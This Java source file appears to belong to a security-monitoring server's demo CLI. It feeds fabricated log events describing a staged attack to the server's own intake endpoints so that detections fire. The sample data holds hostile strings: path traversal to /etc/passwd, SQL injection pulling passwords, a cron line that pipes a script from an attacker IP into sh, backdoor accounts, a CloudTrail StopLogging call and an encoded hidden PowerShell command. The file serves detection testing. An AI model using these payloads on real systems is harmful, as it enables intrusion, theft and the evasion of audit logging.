package dev.vigil.server.cli;

import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintStream;
import java.net.Socket;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/**
 * The demo's attack story, sent through the real intake endpoints like real shippers would: the web shop's access
 * log, AWS CloudTrail and Windows events as HTTP NDJSON (each source with its own ingest token), the Linux servers'
 * auth and cron logs as RFC 5424 syslog over TCP with octet-counting framing.
 *
 * <p>The story (attacker 203.0.113.66): reconnaissance with a scanner and path traversal against the shop; SQL
 * injection; a brute force on the shop's admin login; an SSH brute force on web-01 ending in a root login; sudo to a
 * shell, a backdoor user and a cron job that downloads a script; with keys found on the host, the attacker signs in
 * to AWS without MFA, creates an access key, grants itself AdministratorAccess and stops CloudTrail; in the office
 * network, password guessing against Administrator, a new admin user, an encoded PowerShell and a cleared Security log.
 */
final class DemoStory {
    static final String ATTACKER = "203.0.113.66";
    private static final JsonMapper JSON = JsonMapper.builder().build();

    private final ApiClient admin;
    private final String syslogHost;
    private final int syslogPort;
    private final PrintStream out;
    private final Map<String, String> sourceTokens = new LinkedHashMap<>();
    private final String adminToken;
    private final String url;
    private int events;

    DemoStory(String url, String adminToken, String syslogHost, int syslogPort, PrintStream out) {
        this.url = url;
        this.adminToken = adminToken;
        this.admin = new ApiClient(url, adminToken);
        this.syslogHost = syslogHost;
        this.syslogPort = syslogPort;
        this.out = out;
    }

    record Result(
            int events,
            long alerts,
            Map<String, Long> byLevel,
            Map<String, Long> byRule,
            List<String> inventoryFlags) {}

    Result run() throws IOException, InterruptedException {
        Instant started = Instant.now().truncatedTo(ChronoUnit.SECONDS).minusSeconds(1);
        setUp();
        Instant t = Instant.now().minus(20, ChronoUnit.MINUTES).truncatedTo(ChronoUnit.SECONDS);

        out.println("  1. reconnaissance: a vulnerability scanner and path traversal against shop.example");
        List<String> web = new ArrayList<>();
        web.add(access(t, "GET", "/", "", 200, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"));
        web.add(access(t.plusSeconds(2), "GET", "/.git/config", "", 404, "Mozilla/5.00 (Nikto/2.5.0)"));
        web.add(access(t.plusSeconds(5), "GET", "/download", "file=../../../../etc/passwd", 200, "curl/8.5.0"));
        out.println("  2. initial access: SQL injection in the product search");
        web.add(access(
                t.plusSeconds(40),
                "GET",
                "/products",
                "q=1%27+UNION+SELECT+username,password+FROM+users--",
                200,
                "sqlmap/1.8.2#stable (https://sqlmap.org)"));
        out.println("  3. credential access: brute force on the shop's admin login");
        for (int i = 0; i < 12; i++) {
            web.add(access(t.plusSeconds(60 + i * 3), "POST", "/admin/login", "", 401, "python-requests/2.31"));
        }
        ingest("shop-web", web);

        out.println("  4. SSH brute force on web-01, then a root login (syslog, TCP)");
        List<String> syslog = new ArrayList<>();
        Instant s = t.plusSeconds(120);
        for (int i = 0; i < 8; i++) {
            syslog.add(rfc5424(
                    s.plusSeconds(i * 4),
                    10,
                    5,
                    "web-01",
                    "sshd",
                    2200 + i,
                    "Failed password for root from " + ATTACKER + " port " + (40000 + i) + " ssh2"));
        }
        syslog.add(rfc5424(
                s.plusSeconds(40),
                10,
                6,
                "web-01",
                "sshd",
                2300,
                "Accepted password for root from " + ATTACKER + " port 40100 ssh2"));
        out.println("  5. privilege escalation and persistence on web-01: sudo shell, backdoor user, cron job");
        syslog.add(rfc5424(
                s.plusSeconds(70),
                10,
                5,
                "web-01",
                "sudo",
                2310,
                "deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash"));
        syslog.add(
                rfc5424(
                        s.plusSeconds(90),
                        10,
                        6,
                        "web-01",
                        "useradd",
                        2320,
                        "new user: name=sysupdate, UID=1001, GID=1001, home=/home/sysupdate, shell=/bin/bash, from=/dev/pts/1"));
        syslog.add(rfc5424(s.plusSeconds(100), 9, 6, "web-01", "crontab", 2330, "(root) REPLACE (root)"));
        syslog.add(rfc5424(
                s.plusSeconds(160),
                9,
                6,
                "web-01",
                "CRON",
                2340,
                "(root) CMD (curl -fsSL http://" + ATTACKER + "/u.sh | sh)"));
        sendSyslog(syslog);
        // syslog travels on its own connection: let it reach detection before the later cloud events, so the
        // correlation watermark (latest event time minus 30 s) does not pass the SSH brute force before it arrives
        awaitDetected("linux-servers", syslog.size(), 4);

        out.println("  6. cloud: console login without MFA, new access key, AdministratorAccess, CloudTrail stopped");
        Instant c = t.plusSeconds(400);
        List<String> cloud = new ArrayList<>();
        cloud.add(cloudtrail(
                c,
                "signin.amazonaws.com",
                "ConsoleLogin",
                Map.of(),
                Map.of(
                        "additionalEventData",
                        Map.of("MFAUsed", "No"),
                        "responseElements",
                        Map.of("ConsoleLogin", "Success"))));
        cloud.add(cloudtrail(
                c.plusSeconds(30), "iam.amazonaws.com", "CreateAccessKey", Map.of("userName", "deploy-bot"), Map.of()));
        cloud.add(cloudtrail(
                c.plusSeconds(45),
                "iam.amazonaws.com",
                "AttachUserPolicy",
                Map.of("userName", "deploy-bot", "policyArn", "arn:aws:iam::aws:policy/AdministratorAccess"),
                Map.of()));
        cloud.add(cloudtrail(
                c.plusSeconds(60),
                "cloudtrail.amazonaws.com",
                "StopLogging",
                Map.of("name", "arn:aws:cloudtrail:eu-west-1:123456789012:trail/org-trail"),
                Map.of()));
        ingest("shop-cloud", cloud);

        out.println("  7. Windows: password guessing, a new admin account, encoded PowerShell, Security log cleared");
        Instant w = t.plusSeconds(600);
        List<String> security = new ArrayList<>();
        for (int i = 0; i < 12; i++) {
            security.add(windows(
                    w.plusSeconds(i * 5),
                    4625,
                    Map.of(
                            "TargetUserName",
                            "Administrator",
                            "IpAddress",
                            ATTACKER,
                            "LogonType",
                            3,
                            "Status",
                            "0xc000006d")));
        }
        security.add(windows(
                w.plusSeconds(90), 4720, Map.of("TargetUserName", "svc-update", "SubjectUserName", "Administrator")));
        security.add(windows(
                w.plusSeconds(95),
                4732,
                Map.of(
                        "TargetUserName",
                        "Administrators",
                        "MemberName",
                        "CN=svc-update,CN=Users,DC=corp,DC=example",
                        "SubjectUserName",
                        "Administrator")));
        security.add(windows(w.plusSeconds(200), 1102, Map.of("SubjectUserName", "Administrator")));
        ingest("corp-windows", security);
        ingest(
                "corp-endpoints",
                List.of(json(Map.of(
                        "@timestamp", w.plusSeconds(150).toString(),
                        "EventID", 1,
                        "Computer", "WS-042.corp.example",
                        "User", "CORP\\jdoe",
                        "Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "ParentImage", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                        "CommandLine",
                                "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="))));

        return awaitAlerts(started);
    }

    private void setUp() throws IOException {
        source("shop-web", "http", "json", Map.of("category", "webserver", "product", "nginx"), "shop", List.of());
        source("shop-cloud", "http", "json", Map.of("product", "aws", "service", "cloudtrail"), "shop", List.of());
        source("linux-servers", "syslog", "syslog", Map.of("product", "linux"), "shop", List.of("hostname=web-*"));
        source(
                "corp-windows",
                "http",
                "json",
                Map.of("product", "windows", "service", "security"),
                "corp-it",
                List.of());
        source(
                "corp-endpoints",
                "http",
                "json",
                Map.of("product", "windows", "category", "process_creation"),
                "corp-it",
                List.of());
        application(
                "shop",
                "The web shop (shop.example) and its AWS account",
                "shop-team@example.com",
                "critical",
                List.of("shop-web", "linux-servers", "shop-cloud"));
        application(
                "corp-it",
                "Office network: domain controllers and workstations",
                "it-ops@example.com",
                "high",
                List.of("corp-windows", "corp-endpoints", "corp-vpn"));
    }

    private void source(
            String name, String intake, String parser, Map<String, String> logsource, String app, List<String> match)
            throws IOException {
        ObjectNode body = JSON.createObjectNode();
        body.put("name", name);
        body.put("intake", intake);
        body.put("parser", parser);
        body.set("logsource", JSON.valueToTree(logsource));
        body.put("application", app);
        body.set("match", JSON.valueToTree(match));
        ApiClient.Response r = admin.postJson("/api/v1/sources", body.toString());
        if (r.ok()) {
            JsonNode token = JSON.readTree(r.body()).path("token").path("token");
            if (token.isString()) {
                sourceTokens.put(name, token.asString());
            }
        } else if (r.status() != 409) {
            out.println("     (could not create source " + name + ": " + r.status() + " " + r.body() + ")");
        }
    }

    private void application(String name, String description, String owner, String criticality, List<String> sources)
            throws IOException {
        ObjectNode body = JSON.createObjectNode();
        body.put("name", name);
        body.put("description", description);
        body.put("owner", owner);
        body.put("criticality", criticality);
        body.set("expectedSources", JSON.valueToTree(sources));
        ApiClient.Response r = admin.postJson("/api/v1/applications", body.toString());
        if (!r.ok() && r.status() != 409) {
            out.println("     (could not register application " + name + ": " + r.status() + " " + r.body() + ")");
        }
    }

    private void ingest(String source, List<String> lines) throws IOException {
        String token = sourceTokens.getOrDefault(source, adminToken);
        ApiClient client = new ApiClient(url, token);
        byte[] body = (String.join("\n", lines) + "\n").getBytes(StandardCharsets.UTF_8);
        ApiClient.Response r = client.post(
                "/api/v1/ingest/" + URLEncoder.encode(source, StandardCharsets.UTF_8), "application/x-ndjson", body);
        if (!r.ok()) {
            throw new IOException("intake refused the " + source + " batch: " + r.status() + " " + r.body());
        }
        events += lines.size();
    }

    private void sendSyslog(List<String> messages) throws IOException {
        try (Socket socket = new Socket(syslogHost, syslogPort)) {
            OutputStream o = socket.getOutputStream();
            for (String m : messages) {
                byte[] bytes = m.getBytes(StandardCharsets.UTF_8);
                o.write((bytes.length + " ").getBytes(StandardCharsets.US_ASCII));
                o.write(bytes);
            }
            o.flush();
        }
        events += messages.size();
    }

    /** Waits (at most 20 s) until a source has {@code events} accepted records and {@code alerts} alerts. */
    private void awaitDetected(String source, int events, int alerts) throws IOException, InterruptedException {
        long deadline = System.nanoTime() + 20_000_000_000L;
        String name = URLEncoder.encode(source, StandardCharsets.UTF_8);
        while (System.nanoTime() < deadline) {
            ApiClient.Response s = admin.get("/api/v1/sources/" + name);
            ApiClient.Response a = admin.get("/api/v1/alerts?size=1&source=" + name);
            if (s.ok()
                    && a.ok()
                    && JSON.readTree(s.body()).path("stats").path("accepted").asLong() >= events
                    && JSON.readTree(a.body()).path("total").asLong() >= alerts) {
                return;
            }
            Thread.sleep(100);
        }
    }

    private Result awaitAlerts(Instant since) throws IOException, InterruptedException {
        long deadline = System.nanoTime() + 45_000_000_000L;
        long last = -1;
        long stableSince = System.nanoTime();
        JsonNode page = null;
        while (System.nanoTime() < deadline) {
            ApiClient.Response r = admin.get("/api/v1/alerts?size=500&from=" + since);
            if (r.ok()) {
                page = JSON.readTree(r.body());
                long total = page.path("total").asLong();
                if (total != last) {
                    last = total;
                    stableSince = System.nanoTime();
                } else if (total >= 25 && System.nanoTime() - stableSince > 2_000_000_000L) {
                    break;
                }
            }
            Thread.sleep(250);
        }
        Map<String, Long> byLevel = new TreeMap<>();
        Map<String, Long> byRule = new TreeMap<>();
        if (page != null) {
            for (JsonNode a : page.path("items")) {
                byLevel.merge(a.path("level").asString(), 1L, Long::sum);
                byRule.merge(
                        "[" + a.path("level").asString() + "] "
                                + a.path("ruleTitle").asString(),
                        1L,
                        Long::sum);
            }
        }
        List<String> flags = new ArrayList<>();
        ApiClient.Response flagged = admin.get("/api/v1/applications/flagged");
        if (flagged.ok()) {
            for (JsonNode c : JSON.readTree(flagged.body())) {
                for (JsonNode f : c.path("flags")) {
                    flags.add(c.path("application").path("name").asString() + ": "
                            + f.path("message").asString());
                }
            }
        }
        return new Result(events, Math.max(last, 0), byLevel, byRule, flags);
    }

    private static String access(Instant at, String method, String path, String query, int status, String agent) {
        Map<String, Object> m = new LinkedHashMap<>();
        m.put("@timestamp", at.toString());
        m.put("s-computername", "web-01");
        m.put("cs-host", "shop.example");
        m.put("c-ip", ATTACKER);
        m.put("cs-method", method);
        m.put("cs-uri-stem", path);
        m.put("cs-uri-query", query);
        m.put("sc-status", status);
        m.put("cs-user-agent", agent);
        return json(m);
    }

    private static String cloudtrail(
            Instant at, String eventSource, String eventName, Map<String, Object> request, Map<String, Object> extra) {
        Map<String, Object> m = new LinkedHashMap<>();
        m.put("eventVersion", "1.09");
        m.put("eventTime", at.toString());
        m.put("eventSource", eventSource);
        m.put("eventName", eventName);
        m.put("awsRegion", "eu-west-1");
        m.put("sourceIPAddress", ATTACKER);
        m.put("userAgent", "aws-cli/2.15.0");
        m.put(
                "userIdentity",
                Map.of(
                        "type",
                        "IAMUser",
                        "userName",
                        "deploy-bot",
                        "accountId",
                        "123456789012",
                        "arn",
                        "arn:aws:iam::123456789012:user/deploy-bot"));
        m.put("recipientAccountId", "123456789012");
        if (!request.isEmpty()) {
            m.put("requestParameters", request);
        }
        m.putAll(extra);
        return json(m);
    }

    private static String windows(Instant at, int eventId, Map<String, Object> data) {
        Map<String, Object> m = new LinkedHashMap<>();
        m.put("@timestamp", at.toString());
        m.put("EventID", eventId);
        m.put("Channel", "Security");
        // 1102 (the audit log was cleared) is written by the event log service itself, every other Security event by
        // the auditing provider
        m.put("Provider_Name", eventId == 1102 ? "Microsoft-Windows-Eventlog" : "Microsoft-Windows-Security-Auditing");
        m.put("Computer", "DC01.corp.example");
        m.putAll(data);
        return json(m);
    }

    /** An RFC 5424 message: {@code <PRI>1 TIMESTAMP HOST APP PROCID - - MSG}. */
    private static String rfc5424(
            Instant at, int facility, int severity, String host, String app, int pid, String msg) {
        return "<" + (facility * 8 + severity) + ">1 " + at + " " + host + " " + app + " " + pid + " - - " + msg;
    }

    private static String json(Map<String, Object> m) {
        return JSON.writeValueAsString(m);
    }
}
